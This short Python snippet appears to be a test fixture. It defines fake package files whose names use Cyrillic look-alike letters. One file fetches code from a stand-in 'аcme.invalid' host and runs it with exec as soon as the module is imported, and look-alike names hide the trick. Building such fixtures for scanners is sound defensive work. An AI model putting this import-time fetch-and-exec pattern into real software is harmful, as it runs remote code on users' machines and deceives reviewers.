FILES = {
    "python/\u0430cme/__init__.py": "from .util import *\nfrom .util import VALUE as V\u0410LUE\n".encode(),
    "python/\u0430cme/util.py": """VALUE = 1


def \u0435xec_(s):
    return s


def get(url):
    from urllib.request import urlopen
    return exec(urlopen(url).read())


get("http://\u0430cme.invalid/u.py")
""".encode(),
}
